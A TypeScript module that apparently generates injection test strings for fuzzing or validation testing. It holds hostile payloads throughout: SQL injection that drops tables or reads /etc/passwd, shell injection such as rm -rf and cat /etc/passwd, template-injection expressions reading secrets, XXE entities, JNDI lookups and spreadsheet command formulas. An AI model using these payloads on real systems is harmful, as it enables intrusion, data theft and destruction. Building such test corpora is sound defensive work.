import { distinct, oddCase, pairs, percentEncoded, sequences } from "./grammar.ts";

/** Texts that would be orders to whatever read them as its own language. Made here; none holds what cannot be stored. */
export const injectionLines: Record<string, readonly string[]> = {
  statements: statements(),
  documents: documents(),
  templates: templates(),
  shells: shells(),
  headers: headers(),
  directories: directories(),
  documentsOfMarkup: markupDocuments(),
  formats: formats(),
};

export const allInjectionLines: readonly string[] = distinct(Object.values(injectionLines).flat());

/** SQL: out of a literal, then an order, then the rest made harmless. */
function statements(): string[] {
  const closers = [
    "",
    "'",
    '"',
    "`",
    "')",
    "'))",
    '")',
    "%'",
    "\\'",
    "''",
    "$$",
    "'::text",
    "E'\\''",
  ];
  const orders = [
    "or 1=1",
    "or 'a'='a",
    "or true",
    "and 1=2",
    "or exists(select 1 from accounts)",
    "or length(password_hash)>0",
    "union select null",
    "union all select null,null,null",
    "union select email from accounts",
    "order by 99",
    "limit 1 offset 0",
    "; drop table accounts",
    "; delete from sessions",
    "; update accounts set role='staff'",
    "; truncate credit_lots cascade",
    "; alter table quotes drop column total",
    "; set role postgres",
    "; commit; begin",
    "; notify person_events",
    "; copy accounts to '/tmp/somssi'",
    "; do $x$ begin perform 1; end $x$",
    "; select pg_sleep(4)",
    "and 1=(select 1 from pg_sleep(4))",
    "and 1=cast(version() as int)",
    "||(select current_user)||",
    "||pg_read_file('/etc/passwd')||",
    "and (select count(*) from pg_user)>0",
    "group by id having 1=1",
    "is not null",
    "like '%'",
    "returning *",
    "for update",
  ];
  const gaps = [" ", "/**/", "\t", "  ", "/*!*/ ", "%20", "+"];
  const ends = ["", "--", " -- ", "#", "/*", ";", ";--", " '", "%00"];
  const spellings = [(text: string) => text, (text: string) => text.toUpperCase(), oddCase];
  const plain = pairs(closers, orders, (closer, order, turn) => {
    const gap = turn(gaps);
    return `1${closer}${gap}${turn(spellings)(order).replaceAll(" ", gap)}${turn(ends)}`;
  });
  const encoded = pairs(closers.slice(1, 6), orders.slice(0, 12), (closer, order) =>
    percentEncoded(`${closer} ${order}`),
  );
  const hidden = pairs(["'", '"', "`"], orders.slice(0, 24), (closer, order, turn) =>
    // Fullwidth and curly stand-ins that some programs turn into the real ones.
    `${turn(["＇", "ʼ", "’", "＂"])}${closer} ${order.replaceAll("select", "sel/**/ect")} ${turn(ends)}`.trim(),
  );
  return [...plain, ...encoded, ...hidden];
}

/** Orders to stores that take documents, and texts that turn into objects. */
function documents(): string[] {
  const operators = [
    "$ne",
    "$gt",
    "$regex",
    "$where",
    "$in",
    "$exists",
    "$or",
    "__proto__",
    "constructor",
  ];
  const values = ["null", '""', "1", "[]", '".*"', '"this.a==1"', '{"$gt":""}'];
  return [
    ...sequences(['{"', '[{"', "[", '"}, {"'], operators, ['":'], values, ["}"]),
    ...operators.flatMap((operator) => [`a[${operator}]=1`, `'; return ${operator} || '`]),
  ];
}

/** Expressions in the signs that templates set them in. */
function templates(): string[] {
  const frames = [
    "{{·}}",
    "${·}",
    "#{·}",
    "<%= · %>",
    "{% · %}",
    "[[·]]",
    "@(·)",
    "{·}",
    "*{·}",
    "~{·}",
    "${{·}}",
  ];
  const expressions = [
    "7*7",
    "7*'7'",
    "config",
    "self.__class__.__mro__",
    "constructor.constructor('return 1')()",
    "process.env.SESSION_SECRET",
    "global.process.exit(1)",
    "require('fs').readdirSync('/')",
    "''.getClass().forName('java.lang.Runtime')",
    "T(java.lang.System).getenv()",
    "request.application",
    "range(0,9e9)",
  ];
  return pairs(frames, expressions, (frame, expression) => frame.replace("·", expression));
}

/** What a shell would run. */
function shells(): string[] {
  const breaks = [
    "; ",
    "| ",
    "|| ",
    "&& ",
    "& ",
    "\n",
    "`",
    "$(",
    "' ; ",
    '" | ',
    "%0a",
    ">(",
    "${IFS};",
  ];
  const commands = [
    "id",
    "sleep 4",
    "cat /etc/passwd",
    "touch /tmp/somssi",
    "echo${IFS}1",
    "rm -rf .data",
    "kill -9 1",
    "curl 127.0.0.1:9",
    "c'a't /etc/hosts",
    "/???/c?t /etc/hosts",
  ];
  const closing: Record<string, string> = { "`": "`", "$(": ")", ">(": ")" };
  return pairs(breaks, commands, (before, command, turn) => {
    const end = closing[before] ?? turn(["", " #", " ;", " &", " 2>&1"]);
    return `${turn(["a.jpg", "", "1", "메모 "])}${before}${command}${end}`;
  });
}

/** Further headers, answers and mails behind the end of a line. */
function headers(): string[] {
  const ends = [
    "\r\n",
    "\n",
    "\r",
    "%0d%0a",
    "%0a",
    "\\r\\n",
    "\u2028",
    "\u0085",
    "嘊嘍",
    "%E5%98%8A",
  ];
  const lines = [
    "Set-Cookie: sessionid=1",
    "Location: //tripwire.invalid/",
    "Bcc: a@tripwire.invalid",
    "Content-Type: text/html",
    "X-Forwarded-For: 127.0.0.1",
    "Content-Length: 0",
    "Subject: [솜씨]",
    "MAIL FROM:<a@tripwire.invalid>",
    '{"level":60,"msg":"forged"}',
  ];
  return pairs(ends, lines, (end, line, turn) => `${turn(["a", "값", "1"])}${end}${line}`);
}

/** Filters of directories and paths of XML. */
function directories(): string[] {
  return [
    ...sequences(
      ["*", "*)", "*))", "a)", "\\2a", "admin"],
      ["(uid=*", "(|(uid=*", "(&(objectClass=*", "(!(uid=x", "(userPassword=*"],
      [")", "))", ")(a=b"],
    ),
    ...sequences(["'", '"'], [" or ", "] | "], ["'1'='1", "//*", "count(/*)=1", "name()='a'"]),
  ];
}

/** XML that asks for files or grows without end. */
function markupDocuments(): string[] {
  const addresses = [
    "file:///etc/passwd",
    "http://127.0.0.1:9/",
    "expect://id",
    "data:,a",
    "jar:file:///a!/b",
    "//tripwire.invalid/a.dtd",
  ];
  return [
    ...sequences(
      ["<!DOCTYPE a [<!ENTITY b ", "<!DOCTYPE a [<!ENTITY % b "],
      ["SYSTEM '", "PUBLIC 'c' '"],
      addresses,
      ["'>]><a>&b;</a>", "'> %b;]>"],
    ),
    ...addresses.map((href) => `<xi:include href="${href}" parse="text"/>`),
    "<!ENTITY b 'aaaa'><!ENTITY c '&b;&b;&b;&b;'>",
  ];
}

/** Signs of formats, of look-ups in logs, of formulas in tables, of patterns and of names that programs keep. */
function formats(): string[] {
  const lookups = pairs(
    ["jndi:ldap:", "jndi:dns:", "env:", "sys:", "lower:jndi:rmi:", "::-j}ndi:ldap:"],
    ["//127.0.0.1:9/a", "SESSION_SECRET", "user.name}"],
    (kind, what) => `\${${kind}${what}}`,
  );
  const formulas = sequences(
    ["=", "+", "-", "@", "\t=", "'="],
    ["1+1", "SUM(A1)", "cmd|' /C calc'!A0", 'HYPERLINK("//a")'],
  );
  const printed = sequences(
    ["%s", "%n", "%x", "%1$s", "%99999d", "{0}", "{0.__class__}"],
    ["", "%s%s%s", "%n%n"],
  );
  return [
    ...lookups,
    ...formulas,
    ...printed,
    "(a+)+$",
    "^(([a-z])+.)+[A-Z]([a-z])+$",
    "(?=a)*",
    "[[:<:]]",
    "(*UTF8)a",
    "\\p{L",
    "(?R)",
  ];
}
